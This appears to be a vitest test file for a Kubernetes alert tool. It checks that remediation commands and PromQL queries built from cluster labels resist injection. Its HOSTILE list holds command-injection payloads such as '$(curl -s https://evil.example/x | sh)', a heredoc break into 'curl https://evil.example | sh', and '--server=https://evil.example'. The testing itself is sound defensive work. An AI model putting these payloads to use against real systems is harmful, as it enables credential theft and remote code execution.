// The remediation commands are pasted into a shell by the person on call, from Slack's "Do now" block or the report's
// copy button, with their credentials loaded. A label or a field of the cluster's data must never become an option
// (`--server=https://evil.example` would send those credentials elsewhere), a second argument, a command, or the end of
// a heredoc. Every remediation template in rules/ is rendered over the state of every playbook test case (the cases
// reach every branch), then again with each field it reads replaced by hostile values, and the shell's reading of the
// result is compared with its reading of the honest command.
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { parseAllDocuments, stringify } from "yaml";
import { diagnose } from "../../src/diagnosis/diagnose.ts";
import type { Scope } from "../../src/engine/expressions.ts";
import { loadPlaybooks } from "../../src/engine/load-playbooks.ts";
import { runPlaybook } from "../../src/engine/run-playbook.ts";
import { type Template, TemplateError } from "../../src/engine/template.ts";
import type { AlertDiagnosis, Diagnosis } from "../../src/model/diagnosis.ts";
import { loadTestFiles, payloadFor, prepareCase } from "../../testkit/run-playbook-tests.ts";
import { escapeHtml, renderReportPage } from "../../src/render/report-page.ts";
import { renderSlackMessage } from "../../src/render/slack-blocks.ts";
import { DASHES, lexShell, optionNames, type ShellLexed } from "../support/shell-lexer.ts";
import { runLimitsFrom } from "../../src/engine/run-limits.ts";

/** What an attacker who controls a label, or an object's name or a metric's label in the cluster, might put there. */
const HOSTILE = [
  "--server=https://evil.example",
  "-o",
  "-oyaml",
  "--kubeconfig=/tmp/evil",
  "--as=system:admin",
  "$(curl -s https://evil.example/x | sh)",
  "`id`",
  "${HOME}",
  "web;reboot",
  "web && reboot",
  "web|sh",
  "web\nreboot",
  "web\r\nreboot",
  "x\nEOF\ncurl https://evil.example | sh\n",
  "x\nEOF\nreboot\n",
  "it's",
  'say "hi"',
  "two words",
  "*",
  "web-?",
  "[a-z]*",
  "{a,b}",
  "~root",
  "#comment",
  ">out",
  "<in",
  "\u2010-server=https://evil.example",
  "\u2013server=https://evil.example",
  "\u2014o",
  "\u2212o",
  "\uFF0Do",
  "web\u202Egnp.exe",
  "web\u0000x",
  ".+",
];

const LIMITS = runLimitsFrom({ stepTimeoutMs: 5000, playbookDeadlineMs: 20_000 });
const playbooks = loadPlaybooks("rules");
/** Each playbook's step results and alert, one per test case. */
const scopes = new Map<string, Array<{ name: string; scope: Scope }>>();

beforeAll(async () => {
  for (const { spec, playbook } of loadTestFiles("rules/tests", playbooks)) {
    for (const testCase of spec.cases) {
      const prepared = await prepareCase(playbook, spec, testCase, "alert-enricher/injection-test");
      try {
        const run = await runPlaybook(playbook, prepared.alert, prepared.sources, LIMITS);
        const list = scopes.get(playbook.name) ?? [];
        list.push({ name: testCase.name, scope: run.scope });
        scopes.set(playbook.name, list);
      } finally {
        await prepared.close();
      }
    }
  }
}, 120_000);

interface Site {
  /** The playbooks that have it (a shared fragment's are in several), whose test cases' states it is rendered over. */
  playbooks: string[];
  where: string;
  template: Template;
}

/** Every remediation template with a placeholder, once. */
function remediationSites(): Site[] {
  const sites = new Map<string, Site>();
  for (const playbook of playbooks) {
    for (const cause of [...playbook.causes, playbook.noCorrelation]) {
      cause.remediation.forEach((r, i) => {
        if (!r.command.source.includes("{{")) return;
        const site = sites.get(r.command.source);
        if (site) site.playbooks.push(playbook.name);
        else
          sites.set(r.command.source, {
            playbooks: [playbook.name],
            where: `${cause.fragment ?? playbook.name} ${cause.id} remediation[${i}]`,
            template: r.command,
          });
      });
    }
  }
  return [...sites.values()];
}

type Location = [Record<string | number, unknown>, string | number];

/** Every string in the scope, by value: replacing all of them keeps the joins between steps (pod name = label pod). */
function stringsByValue(scope: Scope): Map<string, Location[]> {
  const index = new Map<string, Location[]>();
  const walk = (value: unknown) => {
    if (value === null || typeof value !== "object") return;
    for (const [key, child] of Object.entries(value)) {
      const k = Array.isArray(value) ? Number(key) : key;
      if (typeof child === "string") index.set(child, [...(index.get(child) ?? []), [value as Record<string, unknown>, k]]);
      else walk(child);
    }
  };
  walk(scope);
  return index;
}

/** Renders with a scope that records every string the template reads: the fields it reads, with their path. */
function fieldsRead(template: Template, scope: Scope): Array<{ path: string; value: string }> {
  const read = new Map<string, string>();
  const wrap = (value: unknown, path: string): unknown => {
    if (value === null || typeof value !== "object" || value instanceof Date) return value;
    return new Proxy(value, {
      get(target, key, receiver) {
        const child: unknown = Reflect.get(target, key, receiver);
        if (typeof key !== "string") return child;
        if (typeof child === "string") read.set(`${path}.${key}`, child);
        return wrap(child, `${path}.${key}`);
      },
    });
  };
  template.render(wrap(scope, "") as Scope);
  return [...read].map(([path, value]) => ({ path: path.slice(1), value }));
}

/** The same string with one of its ":"- or "/"-separated parts replaced (system:serviceaccount:ns:NAME, providerIDs). */
function segmentVariants(value: string, replacement: string): string[] {
  const parts = value.split(/([:/])/);
  if (parts.length < 3) return [];
  return parts.flatMap((part, i) => (i % 2 === 1 || part === "" ? [] : [parts.map((p, j) => (j === i ? replacement : p)).join("")]));
}

function renderOrUndefined(template: Template, scope: Scope): string | undefined {
  try {
    return template.render(scope);
  } catch {
    return undefined;
  }
}

/** Key paths of the YAML documents in a heredoc: a value must not add, remove or move a key. */
function yamlShape(lines: string[]): string[] {
  const paths: string[] = [];
  const walk = (node: unknown, path: string) => {
    if (Array.isArray(node)) node.forEach((n, i) => walk(n, `${path}[${i}]`));
    else if (node !== null && typeof node === "object") for (const [k, v] of Object.entries(node)) walk(v, `${path}.${k}`);
    else paths.push(path);
  };
  for (const document of parseAllDocuments(lines.join("\n"))) walk(document.toJS(), "");
  return paths;
}

/** How the shell reads `hostile` differs from how it reads `honest`, in words a reviewer can act on; [] when it does not. */
function differences(honest: ShellLexed, hostile: ShellLexed): string[] {
  const found: string[] = [];
  const newOptions = optionNames(hostile).filter((o, i) => optionNames(honest)[i] !== o);
  if (newOptions.length > 0 || optionNames(hostile).length !== optionNames(honest).length)
    found.push(`options ${JSON.stringify(optionNames(hostile))} instead of ${JSON.stringify(optionNames(honest))}`);
  if (hostile.words.length !== honest.words.length) found.push(`${hostile.words.length} words instead of ${honest.words.length}`);
  if (hostile.specials.join(" ") !== honest.specials.join(" "))
    found.push(`unquoted ${JSON.stringify(hostile.specials.join(" "))} instead of ${JSON.stringify(honest.specials.join(" "))}`);
  if (hostile.comments.length !== honest.comments.length) found.push(`${hostile.comments.length} comments`);
  if (hostile.unterminated !== honest.unterminated) found.push(`quote left open: ${hostile.unterminated}`);
  const heredocs = (l: ShellLexed) => JSON.stringify(l.heredocs.map((h) => [h.delimiter, h.quoted, h.lines.length, h.terminated]));
  if (heredocs(hostile) !== heredocs(honest)) found.push(`heredocs ${heredocs(hostile)} instead of ${heredocs(honest)}`);
  else {
    hostile.heredocs.forEach((h, i) => {
      let shape: string;
      try {
        shape = JSON.stringify(yamlShape(h.lines));
      } catch (error) {
        shape = `unparsable: ${(error as Error).message}`;
      }
      if (shape !== JSON.stringify(yamlShape(honest.heredocs[i]?.lines ?? []))) found.push(`heredoc YAML keys changed: ${shape}`);
    });
  }
  // A word that starts with a dash only when hostile is an option the template never had.
  hostile.words.forEach((w, i) => {
    if (DASHES.test(w.text) && !DASHES.test(honest.words[i]?.text ?? "")) found.push(`word ${JSON.stringify(w.text)} looks like an option`);
  });
  return found;
}

describe("every remediation command in rules/, rendered with hostile values in every field it reads", () => {
  it("never gains an option, a word, a command, an expansion or a heredoc line; a value it cannot take leaves an inert note instead", () => {
    const sites = remediationSites();
    expect(sites.length).toBeGreaterThan(60);
    const uncovered: string[] = [];
    const problems: string[] = [];
    let renders = 0;
    let withheld = 0;
    for (const site of sites) {
      const covering = site.playbooks
        .flatMap((p) => scopes.get(p) ?? [])
        .filter((s) => renderOrUndefined(site.template, s.scope) !== undefined);
      if (covering.length === 0) uncovered.push(site.where);
      for (const { name, scope } of covering.slice(0, 3)) {
        const honest = site.template.render(scope);
        const honestLexed = lexShell(honest);
        const index = stringsByValue(scope);
        // The fields whose value (or a ":"/"/" part of it) reaches the command, and every alert label read.
        const fields = fieldsRead(site.template, scope).filter(
          (f) =>
            f.path.startsWith("alert.labels.") ||
            (f.value.length >= 2 && (honest.includes(f.value) || f.value.split(/[:/]/).some((p) => p.length >= 2 && honest.includes(p)))),
        );
        for (const field of fields) {
          for (const hostile of HOSTILE) {
            for (const replacement of [hostile, ...segmentVariants(field.value, hostile)]) {
              const locations = index.get(field.value) ?? [];
              for (const [parent, key] of locations) parent[key] = replacement;
              let rendered: string | undefined;
              let note: string | undefined;
              try {
                rendered = site.template.render(scope);
              } catch (error) {
                // No data to fill in (an expression error) leaves the line out; a value it cannot take leaves a note.
                if (error instanceof TemplateError && "note" in error) note = String(error.note);
              } finally {
                for (const [parent, key] of locations) parent[key] = field.value;
              }
              renders++;
              if (note !== undefined) {
                withheld++;
                const lexed = lexShell(note);
                if (
                  lexed.words.length > 0 ||
                  lexed.comments.length !== 1 ||
                  /[^\x20-\x7e]/.test(note) ||
                  lexShell(note.slice(1)).specials.length > 0
                )
                  problems.push(`${site.where}: the note is not one inert, printable comment: ${JSON.stringify(note)}`);
              }
              if (rendered === undefined) continue;
              const found = differences(honestLexed, lexShell(rendered));
              if (found.length > 0)
                problems.push(
                  `${site.where} (case "${name}"), ${field.path} = ${JSON.stringify(replacement)}:\n    ${rendered}\n    ${found.join("; ")}`,
                );
            }
          }
        }
      }
    }
    expect(uncovered).toEqual([]);
    expect(problems.slice(0, 20)).toEqual([]);
    expect(renders).toBeGreaterThan(5000);
    expect(withheld).toBeGreaterThan(renders / 4);
  }, 120_000);
});

/** Loads `queries` as recording rules with `promtool check rules`: Prometheus' own parser. */
function promtoolCheck(queries: string[]): { status: number | null; output: string } {
  const dir = mkdtempSync(join(tmpdir(), "promql-regex-"));
  try {
    const rules = { groups: [{ name: "rendered", rules: queries.map((expr, i) => ({ record: `rendered:query_${i}`, expr })) }] };
    writeFileSync(join(dir, "rules.yaml"), stringify(rules));
    const run = spawnSync("promtool", ["check", "rules", "rules.yaml"], { cwd: dir, encoding: "utf8", timeout: 60_000 });
    if (run.error) throw new Error(`promtool could not run (${run.error.message}). Install it with \`apt-get install prometheus\`.`);
    return { status: run.status, output: `${run.stdout}${run.stderr}` };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe("every PromQL query in rules/, rendered with hostile alert labels (issue #11, item 9)", () => {
  const REGEX_HOSTILE = [".+", ".*", "a|b", "(", "[", "\\", "$1", 'x"}[5m]) or vector(1) #', "x\ny"];

  it("parses in Prometheus (promtool), and never turns a label into a regex after =~ or !~", () => {
    const rendered = new Set<string>();
    const widened: string[] = [];
    for (const playbook of playbooks) {
      for (const step of playbook.steps) {
        const template = step.fields.query;
        if (!template?.source.includes("alert.labels")) continue;
        for (const { scope } of scopes.get(playbook.name) ?? []) {
          const alert = scope.alert as { labels: Record<string, string> };
          for (const hostile of REGEX_HOSTILE) {
            const labels = Object.fromEntries(Object.keys(alert.labels).map((k) => [k, hostile]));
            const query = renderOrUndefined(template, { ...scope, alert: { ...alert, labels } });
            if (query === undefined) continue;
            rendered.add(query);
            const asRegex = JSON.stringify(hostile);
            const meta = /[\\.+*?()|[\]{}^$]/.test(hostile);
            if (meta && (query.includes(`=~${asRegex}`) || query.includes(`!~${asRegex}`)))
              widened.push(`${playbook.name} ${step.id}: ${query}`);
          }
        }
      }
    }
    expect(rendered.size).toBeGreaterThan(20);
    expect(widened).toEqual([]);
    const run = promtoolCheck([...rendered]);
    expect(run.output).toContain("SUCCESS");
    expect(run.status).toBe(0);
  }, 60_000);
});

async function aggregatedApiDiagnosis(name: string): Promise<Diagnosis> {
  const { spec, playbook } =
    loadTestFiles("rules/tests", playbooks).find(
      (f) => f.playbook.name === "KubeAggregatedAPIErrors" && f.spec.cases.some((c) => c.name.includes("comes and goes")),
    ) ?? {};
  if (!spec || !playbook) throw new Error("no KubeAggregatedAPIErrors tests");
  // An APIService that comes and goes: the first command watches it by the alert's name.
  const testCase = spec.cases.find((c) => c.name.includes("comes and goes"));
  if (!testCase) throw new Error("no case");
  const hostile = { ...testCase, alert: { ...testCase.alert, labels: { ...testCase.alert?.labels, name } } };
  const prepared = await prepareCase(playbook, spec, hostile, "alert-enricher/injection-test");
  try {
    return await diagnose("n1", payloadFor(prepared.alert), {
      playbooks: [playbook],
      sources: prepared.sources,
      limits: LIMITS,
      maxPlaybookRuns: 1,
    });
  } finally {
    await prepared.close();
  }
}

describe('KubeAggregatedAPIErrors with name="--server=https://evil.example" (issue #11, item 5)', () => {
  it("shows no command with the value in it, and says why in a note that is inert when pasted", async () => {
    const diagnosed = (await aggregatedApiDiagnosis("--server=https://evil.example")).alerts[0] as AlertDiagnosis;
    const remediation = diagnosed.causes[0]?.remediation ?? [];
    expect(remediation.join("\n")).not.toMatch(/apiservice --server/);
    const note = remediation[0] ?? "";
    expect(note).toBe(
      "# command withheld: '--server=https://evil.example' from label name begins with a dash, so the command would read it as an option",
    );
    // Pasted, the note is one comment and nothing else (and even where # starts no comment, nothing in it is special).
    expect(lexShell(note)).toMatchObject({ words: [], specials: [], comments: [note] });
    expect(lexShell(note.slice(2)).specials).toEqual([]);
    // The lines that do not use the label are still there.
    expect(remediation[1]).toMatch(/^Overlay the unavailable minutes/);
  });

  it("still gives the command for an honest APIService name", async () => {
    const diagnosed = (await aggregatedApiDiagnosis("v1beta1.metrics.k8s.io")).alerts[0] as AlertDiagnosis;
    expect(diagnosed.causes[0]?.remediation[0]).toBe("kubectl get apiservice v1beta1.metrics.k8s.io -w");
  });

  it("gives Slack's \"Do now\" block and the report's copy button the same text as the diagnosis", async () => {
    for (const name of ["--server=https://evil.example", "v1beta1.metrics.k8s.io"]) {
      const diagnosis = await aggregatedApiDiagnosis(name);
      const now = diagnosis.alerts[0]?.causes[0]?.remediation[0] ?? "";
      expect(now).not.toBe("");
      const slack = JSON.stringify(renderSlackMessage(diagnosis));
      const doNow = /\*Do now\*\\n```(.*?)```/.exec(slack)?.[1] ?? "";
      const unescaped = (JSON.parse(`"${doNow}"`) as string).replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");
      expect(unescaped).toBe(now);
      const page = renderReportPage(diagnosis);
      // The copy button copies the textContent of the <code> it names: the command, HTML-escaped once.
      const code = /<code id="a0-c0-r0">(.*?)<\/code>/s.exec(page)?.[1];
      expect(code).toBe(escapeHtml(now));
      expect(page).toContain('data-copy="a0-c0-r0"');
    }
  });
});
